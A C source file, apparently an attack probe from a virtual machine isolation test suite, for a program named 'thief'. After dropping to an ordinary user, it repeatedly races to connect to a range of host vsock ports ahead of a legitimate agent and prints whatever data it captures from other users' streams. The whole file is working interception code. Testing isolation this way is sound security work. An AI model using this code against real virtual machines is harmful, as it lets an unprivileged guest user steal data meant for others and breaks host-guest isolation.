/* SPDX-License-Identifier: GPL-2.0-or-later */
/*
 * An ordinary user's process in a guest that wants the streams of others: it connects to ports of
 * the host, many at a time and over and over, to be there before the agent. A line for each
 * connection that it got, with what came over it.
 *
 * usage: thief FIRST LAST
 */
#include <linux/vm_sockets.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/socket.h>
#include <unistd.h>

#define USER	  1000
#define PORTS_MAX 512
#define WAIT_MS	  2000

static struct pollfd tries[PORTS_MAX];

static int try(unsigned int port)
{
	struct sockaddr_vm address = { .svm_family = AF_VSOCK,
				       .svm_cid = VMADDR_CID_HOST,
				       .svm_port = port };
	int fd = socket(AF_VSOCK, SOCK_STREAM | SOCK_CLOEXEC | SOCK_NONBLOCK, 0);

	if (fd < 0) {
		perror("socket");
		exit(1);
	}
	(void)!connect(fd, (struct sockaddr *)&address, sizeof(address));
	return fd;
}

static void look(struct pollfd *p, unsigned int port)
{
	socklen_t size = sizeof(int);
	int error = 1;
	char text[100];
	ssize_t n = 0;

	p->events = POLLOUT;
	if (poll(p, 1, WAIT_MS) == 1 &&
	    getsockopt(p->fd, SOL_SOCKET, SO_ERROR, &error, &size) == 0 && error == 0) {
		p->events = POLLIN;
		if (poll(p, 1, WAIT_MS) > 0)
			n = read(p->fd, text, sizeof(text));
		printf("took %u: %.*s\n", port, n > 0 ? (int)n : 0, text);
	}
	close(p->fd);
}

int main(int argc, char **argv)
{
	unsigned int first = argc > 2 ? (unsigned int)strtoul(argv[1], NULL, 10) : 1;
	unsigned int count = argc > 2 ? (unsigned int)strtoul(argv[2], NULL, 10) - first + 1 : 1;

	setvbuf(stdout, NULL, _IOLBF, 0);
	if (count > PORTS_MAX || setgid(USER) < 0 || setuid(USER) < 0) {
		perror("become an ordinary user");
		return 1;
	}
	puts("ready");
	for (;;) {
		for (unsigned int i = 0; i < count; i++)
			tries[i].fd = try(first + i);
		for (unsigned int i = 0; i < count; i++)
			look(&tries[i], first + i);
	}
}
